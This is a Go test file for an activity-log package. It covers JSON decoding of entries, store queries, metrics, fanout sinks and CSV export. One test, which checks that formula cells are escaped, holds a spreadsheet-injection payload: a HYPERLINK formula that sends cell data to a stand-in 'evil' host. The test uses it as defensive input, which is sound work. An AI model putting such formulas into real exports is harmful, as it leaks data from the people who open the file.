package activity

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Yuz-tech/gamified-ims/storage/memory"
)

func TestEntryDecodesTypedDetails(t *testing.T) {
	e := testEntry(t, TrainingYearResetDetails{OldYear: 2025, NewYear: 2026, UsersArchived: 12})
	data, err := json.Marshal(e)
	require.NoError(t, err)

	var got Entry
	require.NoError(t, json.Unmarshal(data, &got))
	assert.Equal(t, ActionTrainingYearReset, got.Action)
	assert.Equal(t, TrainingYearResetDetails{OldYear: 2025, NewYear: 2026, UsersArchived: 12}, got.Details)
	assert.Equal(t, e.CreatedAt, got.CreatedAt)
}

func TestEntryFallsBackToUnstructured(t *testing.T) {
	tests := []struct {
		name   string
		json   string
		action Action
		fields map[string]any
	}{
		{
			name:   "unknown action",
			json:   `{"id":"1","action":"future_thing","details":{"a":1}}`,
			action: "future_thing",
			fields: map[string]any{"a": float64(1)},
		},
		{
			name:   "payload that does not fit the variant",
			json:   `{"id":"1","action":"login","details":{"legacy":"x"}}`,
			action: ActionLogin,
			fields: map[string]any{"legacy": "x"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var e Entry
			require.NoError(t, json.Unmarshal([]byte(tt.json), &e))
			u, ok := e.Details.(Unstructured)
			require.True(t, ok, "got %T", e.Details)
			assert.Equal(t, tt.action, u.Action())
			assert.Equal(t, tt.fields, u.Fields)
		})
	}
}

func TestStoreQuery(t *testing.T) {
	ctx := context.Background()
	store := NewStore(memory.NewRepository())
	base := time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC)

	add := func(userID string, d Details, at time.Time) Entry {
		e, err := NewEntry(userID, d, Origin{IPAddress: "10.0.0.1"}, at)
		require.NoError(t, err)
		require.NoError(t, store.Append(ctx, e))
		return e
	}
	first := add("alice", LoginDetails{SessionID: "s1"}, base)
	add("bob", LoginDetails{SessionID: "s2"}, base.Add(time.Minute))
	last := add("alice", LogoutDetails{SessionID: "s1"}, base.Add(2*time.Minute))

	all, err := store.Query(ctx, Filter{})
	require.NoError(t, err)
	require.Len(t, all, 3)
	assert.Equal(t, last.ID, all[0].ID, "newest first")
	assert.Equal(t, first.ID, all[2].ID)

	alice, err := store.Query(ctx, Filter{UserID: "alice"})
	require.NoError(t, err)
	assert.Len(t, alice, 2)

	logins, err := store.Query(ctx, Filter{Action: ActionLogin, Limit: 1})
	require.NoError(t, err)
	require.Len(t, logins, 1)
	assert.Equal(t, "bob", logins[0].UserID)

	since, err := store.Query(ctx, Filter{Since: base.Add(90 * time.Second)})
	require.NoError(t, err)
	require.Len(t, since, 1)
	assert.Equal(t, last.ID, since[0].ID)

	assert.Error(t, store.Append(ctx, first), "entries are append-only")
}

func TestFilterLimitBounds(t *testing.T) {
	assert.Equal(t, DefaultQueryLimit, Filter{}.limit())
	assert.Equal(t, 5, Filter{Limit: 5}.limit())
	assert.Equal(t, MaxQueryLimit, Filter{Limit: 50_000}.limit())
}

type failingSink struct{ err error }

func (f failingSink) Append(context.Context, Entry) error { return f.err }

type memorySink struct{ entries []Entry }

func (m *memorySink) Append(_ context.Context, e Entry) error {
	m.entries = append(m.entries, e)
	return nil
}

func TestRecorderSwallowsFailures(t *testing.T) {
	reg := prometheus.NewRegistry()
	r := NewRecorder(failingSink{err: errors.New("store unreachable")}, WithMetrics(reg))

	ok := r.Record(context.Background(), "user-1", LoginDetails{}, Origin{})
	assert.False(t, ok)
	assert.Equal(t, 1.0, testutil.ToFloat64(r.failures))
}

func TestRecorderCountsByAction(t *testing.T) {
	reg := prometheus.NewRegistry()
	sink := &memorySink{}
	at := time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC)
	r := NewRecorder(sink, WithMetrics(reg), WithClock(func() time.Time { return at }))

	require.True(t, r.Record(context.Background(), "user-1", PasswordChangeDetails{}, Origin{IPAddress: "10.0.0.9", UserAgent: "curl"}))
	require.Len(t, sink.entries, 1)
	e := sink.entries[0]
	assert.Equal(t, ActionPasswordChange, e.Action)
	assert.Equal(t, "10.0.0.9", e.IPAddress)
	assert.Equal(t, "curl", e.UserAgent)
	assert.Equal(t, at, e.CreatedAt)
	assert.Equal(t, 1.0, testutil.ToFloat64(r.recorded.WithLabelValues(string(ActionPasswordChange))))
}

func TestFanoutPrimaryIsAuthoritative(t *testing.T) {
	secondary := &memorySink{}
	f := &Fanout{Primary: failingSink{err: errors.New("down")}, Secondary: []Sink{secondary}}
	assert.Error(t, f.Append(context.Background(), testEntry(t, LogoutDetails{})))
	assert.Empty(t, secondary.entries)

	primary := &memorySink{}
	f = &Fanout{Primary: primary, Secondary: []Sink{failingSink{err: errors.New("down")}, secondary}}
	assert.NoError(t, f.Append(context.Background(), testEntry(t, LogoutDetails{})))
	assert.Len(t, primary.entries, 1)
	assert.Len(t, secondary.entries, 1)
}

func TestWriteCSV(t *testing.T) {
	entries := []Entry{
		testEntry(t, QuizCompletedDetails{TopicID: "t1", Score: 80, Passed: true, Year: 2025}),
		testEntry(t, LogoutDetails{SessionID: "s1"}),
	}
	entries[1].UserID = "ghost"

	var buf bytes.Buffer
	err := WriteCSV(&buf, entries, func(id string) (string, string) {
		if id == "user-1" {
			return "alice", "alice@example.com"
		}
		return "", ""
	})
	require.NoError(t, err)

	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 3)
	assert.Equal(t, []string{"timestamp", "username", "email", "action", "ip", "details"}, rows[0])
	assert.Equal(t, []string{
		"2025-01-01T00:00:00Z", "alice", "alice@example.com", "quiz_completed", "10.0.0.1",
		`{"topicId":"t1","score":80,"passed":true,"year":2025}`,
	}, rows[1])
	assert.Equal(t, "", rows[2][1])
	assert.Equal(t, `{"sessionId":"s1"}`, rows[2][5])
}

func TestWriteCSVEscapesFormulaCells(t *testing.T) {
	e := testEntry(t, LogoutDetails{SessionID: "s1"})
	e.IPAddress = "@SUM(1+1)"

	var buf bytes.Buffer
	require.NoError(t, WriteCSV(&buf, []Entry{e}, func(string) (string, string) {
		return `=HYPERLINK("http://evil/?"&A1,"x")`, "+mallory@example.com"
	}))

	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 2)
	assert.Equal(t, `'=HYPERLINK("http://evil/?"&A1,"x")`, rows[1][1])
	assert.Equal(t, "'+mallory@example.com", rows[1][2])
	assert.Equal(t, "'@SUM(1+1)", rows[1][4])
	for _, cell := range rows[1] {
		assert.False(t, IsFormulaCell(cell), "cell %q", cell)
	}
}

func TestEscapeCell(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"alice", "alice"},
		{"", ""},
		{"=1+1", "'=1+1"},
		{"-2", "'-2"},
		{"\tcmd", "'\tcmd"},
		{"\rcmd", "'\rcmd"},
		{"a=b", "a=b"},
		{"2001:db8::1", "2001:db8::1"},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, EscapeCell(tt.in), "input %q", tt.in)
	}
}
